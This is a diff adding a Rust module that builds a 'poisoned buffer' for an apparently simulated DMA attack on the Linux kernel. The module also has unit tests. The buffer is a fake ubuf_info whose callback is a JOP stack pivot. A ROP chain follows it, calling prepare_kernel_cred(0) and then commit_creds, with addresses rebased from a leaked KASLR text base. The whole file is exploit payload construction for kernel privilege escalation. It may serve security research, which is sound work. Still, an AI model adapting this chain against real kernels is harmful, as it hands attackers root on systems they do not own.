@@ -1,0 +1,124 @@
+//! Poisoned-buffer construction.
+//!
+//! The malicious buffer the attacks plant (in an RX ring buffer, an
+//! echoed payload, or a forwarded segment) has a fixed shape:
+//!
+//! ```text
+//! +0x00  ubuf_info { callback = &jop_rsp_rdi, ctx, desc }
+//! +0x18  (pad)
+//! +0x20  ROP chain:  pop rdi; ret
+//!                    0                       (NULL)
+//!                    prepare_kernel_cred
+//!                    mov rdi, rax; ret
+//!                    commit_creds
+//!                    rop_exit
+//! ```
+//!
+//! `destructor_arg` is pointed at +0x00; the kernel calls
+//! `callback(%rdi = +0x00)`; the JOP pivot sets `%rsp = %rdi + 0x20` and
+//! the chain runs. All embedded addresses are kernel-text symbols, so
+//! the buffer is position-independent: only `destructor_arg` needs the
+//! buffer's own KVA.
+
+use crate::image::{KernelImage, JOP_PIVOT_DISP};
+use crate::kaslr::AttackerKnowledge;
+use dma_core::{DmaError, Kva, Result};
+
+/// Total size of the poisoned buffer content.
+pub const POISON_SIZE: usize = JOP_PIVOT_DISP as usize + 6 * 8;
+
+/// A built poisoned buffer.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct PoisonedBuffer {
+    /// The bytes to deposit.
+    pub bytes: Vec<u8>,
+}
+
+impl PoisonedBuffer {
+    /// Builds the buffer for a kernel whose text base the attacker has
+    /// recovered.
+    pub fn build(image: &KernelImage, knowledge: &AttackerKnowledge) -> Result<Self> {
+        let sym = |name: &str| -> Result<u64> {
+            let off = image
+                .symbol_offset(name)
+                .ok_or(DmaError::AttackFailed("required symbol missing from image"))?;
+            Ok(knowledge.rebase(off)?.raw())
+        };
+        Self::build_raw(
+            sym("jop_rsp_rdi")?,
+            &[
+                sym("pop_rdi_ret")?,
+                0,
+                sym("prepare_kernel_cred")?,
+                sym("mov_rdi_rax_ret")?,
+                sym("commit_creds")?,
+                sym("rop_exit")?,
+            ],
+        )
+    }
+
+    /// Builds from explicit addresses (tests, ablations).
+    pub fn build_raw(jop_callback: u64, chain: &[u64]) -> Result<Self> {
+        let mut bytes = vec![0u8; JOP_PIVOT_DISP as usize + chain.len() * 8];
+        bytes[0..8].copy_from_slice(&jop_callback.to_le_bytes()); // ubuf_info.callback
+                                                                  // ctx (+8) and desc (+16) stay zero.
+        for (i, w) in chain.iter().enumerate() {
+            let off = JOP_PIVOT_DISP as usize + i * 8;
+            bytes[off..off + 8].copy_from_slice(&w.to_le_bytes());
+        }
+        Ok(PoisonedBuffer { bytes })
+    }
+
+    /// `destructor_arg` value for a buffer deposited at `buffer_kva`.
+    pub fn destructor_arg_for(buffer_kva: Kva) -> u64 {
+        buffer_kva.raw()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use dma_core::layout::VmRegion;
+
+    fn knowledge_at(text_base: u64) -> AttackerKnowledge {
+        AttackerKnowledge {
+            text_base: Some(Kva(text_base)),
+            page_offset_base: Some(Kva(VmRegion::DirectMap.start())),
+            vmemmap_base: Some(Kva(VmRegion::Vmemmap.start())),
+        }
+    }
+
+    #[test]
+    fn built_buffer_embeds_rebased_symbols() {
+        let img = KernelImage::build(1, 16 << 20);
+        let base = VmRegion::KernelText.start() + 5 * 0x20_0000;
+        let pb = PoisonedBuffer::build(&img, &knowledge_at(base)).unwrap();
+        assert_eq!(pb.bytes.len(), POISON_SIZE);
+        let cb = u64::from_le_bytes(pb.bytes[0..8].try_into().unwrap());
+        assert_eq!(cb, base + img.symbol_offset("jop_rsp_rdi").unwrap());
+        let first_ret = u64::from_le_bytes(
+            pb.bytes[JOP_PIVOT_DISP as usize..JOP_PIVOT_DISP as usize + 8]
+                .try_into()
+                .unwrap(),
+        );
+        assert_eq!(first_ret, base + img.symbol_offset("pop_rdi_ret").unwrap());
+    }
+
+    #[test]
+    fn build_fails_without_text_base() {
+        let img = KernelImage::build(1, 16 << 20);
+        let k = AttackerKnowledge::new();
+        assert!(PoisonedBuffer::build(&img, &k).is_err());
+    }
+
+    #[test]
+    fn buffer_is_position_independent() {
+        let img = KernelImage::build(1, 16 << 20);
+        let k = knowledge_at(VmRegion::KernelText.start());
+        let a = PoisonedBuffer::build(&img, &k).unwrap();
+        let b = PoisonedBuffer::build(&img, &k).unwrap();
+        assert_eq!(a, b);
+        // Only destructor_arg depends on placement.
+        assert_eq!(PoisonedBuffer::destructor_arg_for(Kva(0x1000)), 0x1000);
+    }
+}
